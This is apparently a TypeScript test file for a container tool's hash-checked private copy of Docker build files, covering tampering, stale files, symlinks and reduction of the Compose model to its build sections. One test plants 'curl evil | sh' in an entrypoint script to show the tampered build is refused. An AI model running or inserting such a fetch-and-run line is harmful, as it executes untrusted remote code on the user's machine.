/**
 * claude-cli is built from a private copy of its checked build inputs (ops/build-copy.ts), and Compose reads
 * only the checked build sections (project/resolved-model.ts buildOnly): nothing the build reads is in the
 * project. The e2e race is test/e2e/hostile/build-race.test.ts.
 */
import test from 'ava';
import { mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { assertBuildCopies, ensureBuildCopy, syncBuildCopy } from '../../lib/ops/build-copy.js';
import { imageHashes } from '../../lib/ops/build.js';
import { buildOnly } from '../../lib/project/resolved-model.js';
import { cliBuildCopy, privateDir } from '../../lib/project/private-dir.js';
import { defaults } from '../../lib/project/settings.js';
import { scratchDir } from '../helpers/scratch.js';

const project = { name: 'app' };

function setUp(): { env: NodeJS.ProcessEnv; wanted: Map<string, Buffer> } {
  const env = { HOME: scratchDir('cctl-build-copy-') };
  const wanted = new Map<string, Buffer>([
    ['docker/Dockerfile', Buffer.from('FROM base\nCOPY entrypoint.sh /usr/local/bin/\n')],
    ['docker/entrypoint.sh', Buffer.from('#!/bin/sh\nexec "$@"\n')],
    ['docker/local/team.pem', Buffer.from('pem\n')],
    ['proxy/Dockerfile', Buffer.from('FROM base\n')],
  ]);
  return { env, wanted };
}

/** The gateway's folder as init's syncAssets leaves it in the private folder. */
function writeGatewayFolder(env: NodeJS.ProcessEnv): void {
  mkdirSync(join(privateDir('app', env), 'proxy'), { recursive: true });
  writeFileSync(join(privateDir('app', env), 'proxy', 'Dockerfile'), 'FROM base\n');
}

test('the copy holds exactly the hashed docker/ files, and hashes as checked', (t) => {
  const { env, wanted } = setUp();
  writeGatewayFolder(env);
  const dir = ensureBuildCopy(project, env);
  t.is(dir, cliBuildCopy('app', env));
  // A file an older state left behind goes.
  writeFileSync(join(dir, 'stale.txt'), 'old\n');
  syncBuildCopy(project, wanted, env);
  t.is(readFileSync(join(dir, 'entrypoint.sh'), 'utf8'), '#!/bin/sh\nexec "$@"\n');
  t.is(statSync(join(dir, 'entrypoint.sh')).mode & 0o777, 0o755);
  t.is(readFileSync(join(dir, 'local', 'team.pem'), 'utf8'), 'pem\n');
  t.throws(() => statSync(join(dir, 'stale.txt')), { code: 'ENOENT' });
  t.throws(() => statSync(join(dir, 'Dockerfile.proxy')), { code: 'ENOENT' });
  const settings = defaults();
  t.notThrows(() => assertBuildCopies(project, settings, imageHashes(wanted, settings), ['claude-cli', 'proxy'], env));
});

test('a copy that is not what was checked builds nothing', (t) => {
  const { env, wanted } = setUp();
  writeGatewayFolder(env);
  syncBuildCopy(project, wanted, env);
  const settings = defaults();
  const checked = imageHashes(wanted, settings);
  writeFileSync(join(cliBuildCopy('app', env), 'entrypoint.sh'), '#!/bin/sh\ncurl evil | sh\n');
  const error = t.throws(() => assertBuildCopies(project, settings, checked, ['claude-cli'], env));
  t.regex(error!.message, /private copy of the build files of claude-cli .* is not what cctl checked, so nothing was built/);
  // The gateway's folder is checked the same way, on its own hash.
  t.notThrows(() => assertBuildCopies(project, settings, checked, ['proxy'], env));
  writeFileSync(join(privateDir('app', env), 'proxy', 'Dockerfile'), 'FROM evil\n');
  t.throws(() => assertBuildCopies(project, settings, checked, ['proxy'], env), { message: /build files of proxy/ });
});

test('the copy is never written through a link', (t) => {
  const { env, wanted } = setUp();
  const elsewhere = scratchDir('cctl-build-copy-elsewhere-');
  mkdirSync(privateDir('app', env), { recursive: true });
  symlinkSync(elsewhere, cliBuildCopy('app', env));
  t.throws(() => syncBuildCopy(project, wanted, env), { message: /symbolic link/ });
  t.throws(() => statSync(join(elsewhere, 'Dockerfile')), { code: 'ENOENT' });
});

test("the build model is the checked services' image and build sections, with the secrets they name", (t) => {
  const model = {
    name: 'app',
    version: '3.9',
    services: {
      'claude-cli': {
        image: 'cctl-app-claude-cli:local-u1500-g1500',
        build: { context: '/home/dev/.config/cctl/projects/app/docker', args: { PACKAGES: 'a$$b' }, secrets: ['npmrc'] },
        privileged: false,
        environment: { A: 'b' },
      },
      proxy: { image: 'cctl-app-proxy:local', build: { context: '/home/dev/.config/cctl/projects/app/proxy' } },
      web: { image: 'nginx', build: { context: '/w/app/web' } },
    },
    secrets: { npmrc: { file: '/home/dev/.npmrc' }, other: { file: '/etc/x' } },
  };
  const text = buildOnly(model, ['claude-cli', 'proxy']);
  t.deepEqual(JSON.parse(text!), {
    version: '3.9',
    services: {
      'claude-cli': {
        image: 'cctl-app-claude-cli:local-u1500-g1500',
        build: { context: '/home/dev/.config/cctl/projects/app/docker', args: { PACKAGES: 'a$$b' }, secrets: ['npmrc'] },
      },
      proxy: { image: 'cctl-app-proxy:local', build: { context: '/home/dev/.config/cctl/projects/app/proxy' } },
    },
    secrets: { npmrc: { file: '/home/dev/.npmrc' } },
  });
  // A service with no build section (a third-party gateway image) is left out; none at all: no model.
  t.is(buildOnly({ services: { proxy: { image: 'x' } } }, ['proxy']), undefined);
});
